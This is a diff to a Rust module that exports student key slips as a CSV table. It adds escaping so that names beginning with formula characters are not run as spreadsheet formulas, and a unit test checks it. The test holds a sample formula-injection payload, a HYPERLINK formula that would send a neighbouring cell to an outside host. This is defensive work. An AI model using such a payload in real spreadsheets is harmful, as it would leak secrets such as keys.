@@ -1,5 +1,7 @@
 //! Slips as a table, for letters and mails that a word processor makes.
 
+use std::borrow::Cow;
+
 use zeroize::Zeroizing;
 
 use super::slip::{Place, Slip};
@@ -16,8 +18,9 @@ pub(super) fn write(place: &Place, slips: &[Slip<'_>]) -> Result<Zeroizing<Strin
     rows.write_record(HEADER).map_err(failed)?;
     for slip in slips {
         let link = page.map(|page| slip.link(page)).unwrap_or_default();
+        let name = without_formula(slip.name);
         let record = [
-            slip.name,
+            name.as_ref(),
             slip.id,
             &slip.key.expose_text(),
             &slip.key.fingerprint(),
@@ -31,4 +34,23 @@ pub(super) fn write(place: &Place, slips: &[Slip<'_>]) -> Result<Zeroizing<Strin
     let bytes = rows.into_inner().map_err(|error| KeysError::Table(error.to_string()))?;
     let text = String::from_utf8(bytes).map_err(|error| KeysError::Table(error.to_string()))?;
     Ok(Zeroizing::new(text))
+}
+
+/// A name that no spreadsheet takes for a formula, which could send the keys beside it elsewhere: students can choose
+/// the names of some systems.
+fn without_formula(name: &str) -> Cow<'_, str> {
+    if name.starts_with(['=', '+', '-', '@']) { format!("'{name}").into() } else { name.into() }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_is_no_formula() {
+        for name in ["=HYPERLINK(\"http://x/\"&C2)", "+1", "-1", "@SUM(1)"] {
+            assert_eq!(without_formula(name), format!("'{name}"));
+        }
+        assert_eq!(without_formula("Ada Able-Best = A+"), "Ada Able-Best = A+");
+    }
 }
